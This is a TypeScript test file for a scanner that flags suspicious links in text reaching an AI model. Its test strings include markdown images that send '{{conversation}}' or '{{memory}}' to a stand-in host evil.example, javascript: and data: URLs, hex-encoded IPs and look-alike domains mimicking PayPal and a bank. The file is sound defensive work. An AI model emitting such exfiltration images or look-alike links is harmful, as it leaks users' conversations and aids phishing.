import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { linkOptionsSchema, linkScanner } from "../../src/scan/links.ts";
import { readings } from "../../src/text/views.ts";
import { testCases } from "./cases.ts";
import { findingsOf, testAnyText, testBounded } from "./properties.ts";

const scanner = linkScanner();
testCases(scanner, "links.json");

testAnyText(scanner, [
  "https://",
  "http:/\\",
  "![a](",
  "](",
  ")",
  "<img src=",
  '"',
  "evil.example/",
  "p?d={{conversation}}",
  "[QUERY]",
  "javascript:",
  "data:text/html,",
  "0x7f.1",
  "@google.com",
  "xn--pypal-4ve.com",
  "раураl.com",
  "%zz",
  "[r]: ",
]);
testBounded(scanner, [
  "https://a.example/?q={{conversation}} ",
  "![x](https://evil.example/?q={{conversation}}) ",
  "http://0x7f.1/ ",
  "](http:[[[[",
  "https:/",
  "g00gle.com ",
  "[javascript:eval(",
]);

test("an operator's hosts are protected and trusted", () => {
  const text = "![x](https://c.acme.example/?q={{conversation}}) and https://acme-bаnk.com/";
  // The text is read twice: as it was sent, and with its look-alike letter folded.
  const labels = (options: Parameters<typeof linkScanner>[0]) => [
    ...new Set(findingsOf(linkScanner(options), text, "document").map(({ label }) => label)),
  ];
  assert.deepEqual(labels({}), ["link/exfiltration-image", "link/mixed-host"]);
  assert.deepEqual(labels({ trustedHosts: ["acme.example"], knownHosts: ["acme-bank.com"] }), [
    "link/lookalike-host",
  ]);
});

test("a domain that is none is refused", () => {
  for (const host of ["https://a.example", "A.example", "*.example.com", "", "localhost"]) {
    const checked = linkOptionsSchema.safeParse({ trustedHosts: [host] });
    assert.match(checked.error?.message ?? "", /expected a domain in lower case/, host);
  }
});

test("an image weighs more than a link, a document more than a user, and code is shown", () => {
  const highest = (text: string, origin: "user" | "document") =>
    Math.max(0, ...findingsOf(scanner, text, origin).map(({ score }) => score));
  const image = "![x](https://x.example/?q={{conversation}})";
  const link = image.slice(1);
  assert.ok(highest(image, "document") > highest(image, "user"));
  assert.ok(highest(image, "user") > highest(link, "user"));
  assert.equal(highest(`\`${image}\``, "document"), 0.4);
});

test("hits in front hide none behind", () => {
  const harmless = "`![x](https://x.example/?q={{conversation}})` ".repeat(100);
  const found = findingsOf(scanner, `${harmless}![x](https://x.example/?q={{memory}})`, "document");
  assert.ok(found.some(({ score, start }) => score >= 0.8 && start >= harmless.length));
});

test("hosts past those that are looked at are said to be", () => {
  const text = Array.from({ length: 5000 }, (_, index) => `http://0x${index.toString(16)}.1/`).join(
    " ",
  );
  const labels = new Set(findingsOf(scanner, text, "user").map(({ label }) => label));
  assert.ok(labels.has("link/obscured-ip") && labels.has("link/unread-hosts"));
});

test("whatever host is written, it is compared without an error", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 60 }), (host) => {
      const text = `https://${host.toWellFormed()}.xn--a.com/`;
      scanner.scan({ text, origin: "user", readings: readings(text).readings });
    }),
    { numRuns: 500 },
  );
});
